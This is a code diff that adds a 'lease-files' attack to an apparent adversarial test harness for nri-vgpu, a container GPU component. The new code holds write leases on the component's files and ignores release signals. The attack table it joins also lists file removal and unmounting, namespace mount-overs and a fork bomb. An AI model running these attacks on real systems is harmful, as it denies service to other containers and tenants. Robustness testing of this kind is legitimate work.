@@ -52,6 +52,22 @@ static void wl_unlink(struct wl_attack *attack)
 	wl_attack_rest(50);
 }
 
+// wl_lease_files takes write leases on nri-vgpu's files. Each open of such a file by another process
+// would wait, in other containers, too. wl_lease_files ignores requests to release the leases.
+static void wl_lease_files(struct wl_attack *attack)
+{
+	static int files[wl_ours_count];
+
+	signal(SIGIO, SIG_IGN);
+	for (size_t i = 0; i < wl_ours_count; i++) {
+		if (files[i] == 0)
+			files[i] = open(wl_ours[i], O_RDONLY | O_CLOEXEC | O_NONBLOCK);
+		if (files[i] > 0)
+			wl_count(attack, fcntl(files[i], F_SETLEASE, F_WRLCK));
+	}
+	wl_attack_rest(1);
+}
+
 static void wl_write(const char *path, const char *text)
 {
 	int fd = open(path, O_WRONLY | O_CLOEXEC);
@@ -113,6 +129,7 @@ static void wl_fork(struct wl_attack *attack)
 const struct wl_attack_way wl_system_ways[] = {
 	{"rename", "move, remove and unmount nri-vgpu's files", wl_rename},
 	{"unlink", "remove /shared/ld.so.preload", wl_unlink},
+	{"lease-files", "take write leases on nri-vgpu's files", wl_lease_files},
 	{"namespaces", "mount over nri-vgpu's files in namespaces, and fill a GPU in these namespaces", wl_namespaces},
 	{"fork", "fork until the kernel refuses", wl_fork},
 	{NULL, NULL, NULL},
